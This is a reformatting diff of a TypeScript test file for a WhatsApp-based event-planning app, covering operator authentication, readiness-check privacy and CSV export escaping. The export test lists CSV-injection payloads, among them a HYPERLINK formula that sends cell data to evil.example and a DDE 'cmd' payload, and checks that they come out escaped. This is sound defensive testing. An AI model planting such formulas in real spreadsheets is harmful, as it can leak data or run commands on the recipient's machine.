@@ -39,11 +39,20 @@ async function startApp(options: Partial<HttpOptions>): Promise<string> {
   const redis = await testRedis();
   const queue = new Queue("safe-defaults", { connection: redis, prefix: uniquePrefix() });
   closers.push(() => queue.close());
-  const qr = { status: () => ({ state: "qr" as const, qr: "2@fake" }), qrSvg: async () => '<svg data-test="qr"></svg>' };
+  const qr = {
+    status: () => ({ state: "qr" as const, qr: "2@fake" }),
+    qrSvg: async () => '<svg data-test="qr"></svg>',
+  };
   return serve(
     createHttpApp({
-      db: testDb(), redis, logger, metrics: createMetrics(testDb()).registry, queues: [queue], whatsappQr: whatsappQrHandler(qr),
-      channelStatus: () => ({ whatsapp: "blocked: WhatsApp banned this number (TOS_BLOCK)" }), ...options,
+      db: testDb(),
+      redis,
+      logger,
+      metrics: createMetrics(testDb()).registry,
+      queues: [queue],
+      whatsappQr: whatsappQrHandler(qr),
+      channelStatus: () => ({ whatsapp: "blocked: WhatsApp banned this number (TOS_BLOCK)" }),
+      ...options,
     }),
   );
 }
@@ -64,7 +73,9 @@ describe("operator pages in production", () => {
     const base = await startApp({ production: true, operatorToken: token });
     for (const path of operatorPages) {
       expect((await fetch(`${base}${path}`)).status, path).toBe(401);
-      expect((await fetch(`${base}${path}`, { headers: { Authorization: basic(`${token}x`) } })).status, path).toBe(401);
+      expect((await fetch(`${base}${path}`, { headers: { Authorization: basic(`${token}x`) } })).status, path).toBe(
+        401,
+      );
       expect((await fetch(`${base}${path}`, { headers: { Authorization: basic(token) } })).status, path).toBe(200);
     }
   });
@@ -72,7 +83,11 @@ describe("operator pages in production", () => {
 
 describe("/readyz", () => {
   it("tells a stranger only up or down, in production and wherever a password is set", async () => {
-    for (const options of [{ production: true }, { production: true, operatorToken: token }, { operatorToken: token }]) {
+    for (const options of [
+      { production: true },
+      { production: true, operatorToken: token },
+      { operatorToken: token },
+    ]) {
       const base = await startApp(options);
       const response = await fetch(`${base}/readyz`);
       expect(response.status).toBe(200);
@@ -83,7 +98,12 @@ describe("/readyz", () => {
   it("gives the operator the details", async () => {
     const base = await startApp({ production: true, operatorToken: token });
     const response = await fetch(`${base}/readyz`, { headers: { Authorization: basic(token) } });
-    expect(await response.json()).toEqual({ ready: true, postgres: "ok", redis: "ok", channels: { whatsapp: "blocked: WhatsApp banned this number (TOS_BLOCK)" } });
+    expect(await response.json()).toEqual({
+      ready: true,
+      postgres: "ok",
+      redis: "ok",
+      channels: { whatsapp: "blocked: WhatsApp banned this number (TOS_BLOCK)" },
+    });
   });
 });
 
@@ -105,12 +125,19 @@ describe("Chromium for WhatsApp Web", () => {
 });
 
 describe("exports escape formulas", () => {
-  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bonyeza")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\tTab=1+1", "＝1+1"];
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bonyeza")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    "\tTab=1+1",
+    "＝1+1",
+  ];
 
   it("makes each formula-looking text inert and leaves phones and numbers as they are", () => {
     for (const text of hostile) expect(escapeFormula(text), text).toBe(`'${text}`);
     expect(escapeFormula("+255712345678")).toBe("+255712345678");
-    expect(escapeFormula("Amina \"Mama Zawadi\" - 2")).toBe("Amina \"Mama Zawadi\" - 2");
+    expect(escapeFormula('Amina "Mama Zawadi" - 2')).toBe('Amina "Mama Zawadi" - 2');
   });
 
   it("in the guests, contributions, budget and tasks exports", async () => {
@@ -121,13 +148,42 @@ describe("exports escape formulas", () => {
     await h.settle();
     const db = h.db;
     const me = await db.user.findFirstOrThrow({ where: { phone: organizer } });
-    const event = await db.event.create({ data: { organizerId: me.id, name: "Harusi", startTime: new Date("2031-02-15T11:00:00Z"), status: "confirmed", code: `HARUSI-${uniquePrefix().slice(-6).toUpperCase()}` } });
+    const event = await db.event.create({
+      data: {
+        organizerId: me.id,
+        name: "Harusi",
+        startTime: new Date("2031-02-15T11:00:00Z"),
+        status: "confirmed",
+        code: `HARUSI-${uniquePrefix().slice(-6).toUpperCase()}`,
+      },
+    });
     for (const [i, name] of hostile.entries()) {
       const guest = await db.user.create({ data: { name, phone: uniquePhone() } });
-      await db.invitation.create({ data: { eventId: event.id, userId: guest.id, recipientPhone: guest.phone, recipientName: name, sentAt: new Date() } });
-      await db.guestContribution.create({ data: { eventId: event.id, userId: guest.id, kind: i % 2 ? "message" : "pledge", content: name, amount: i % 2 ? null : new Prisma.Decimal(1000), currency: "TZS" } });
-      await db.eventBudgetItem.create({ data: { eventId: event.id, title: name, cost: new Prisma.Decimal(1000), paid: new Prisma.Decimal(0) } });
-      await db.eventTask.create({ data: { eventId: event.id, title: name, code: `T-${i}${uniquePrefix().slice(-4).toUpperCase()}` } });
+      await db.invitation.create({
+        data: {
+          eventId: event.id,
+          userId: guest.id,
+          recipientPhone: guest.phone,
+          recipientName: name,
+          sentAt: new Date(),
+        },
+      });
+      await db.guestContribution.create({
+        data: {
+          eventId: event.id,
+          userId: guest.id,
+          kind: i % 2 ? "message" : "pledge",
+          content: name,
+          amount: i % 2 ? null : new Prisma.Decimal(1000),
+          currency: "TZS",
+        },
+      });
+      await db.eventBudgetItem.create({
+        data: { eventId: event.id, title: name, cost: new Prisma.Decimal(1000), paid: new Prisma.Decimal(0) },
+      });
+      await db.eventTask.create({
+        data: { eventId: event.id, title: name, code: `T-${i}${uniquePrefix().slice(-4).toUpperCase()}` },
+      });
     }
 
     for (const list of ["guests", "contributions", "budget", "tasks"]) {
@@ -135,7 +191,9 @@ describe("exports escape formulas", () => {
       await h.say(organizer, `/export ${event.code} ${list}`);
       const sent = await h.reply(organizer, before + 1);
       expect(sent.document, list).toBeDefined();
-      const csv = Buffer.from(sent.document!.base64, "base64").toString("utf8").replace(/^\uFEFF/, "");
+      const csv = Buffer.from(sent.document!.base64, "base64")
+        .toString("utf8")
+        .replace(/^\uFEFF/, "");
       const cells = parseCsv(csv).flat();
       for (const text of hostile) {
         expect(cells, `${list}: ${text}`).toContain(`'${text}`);
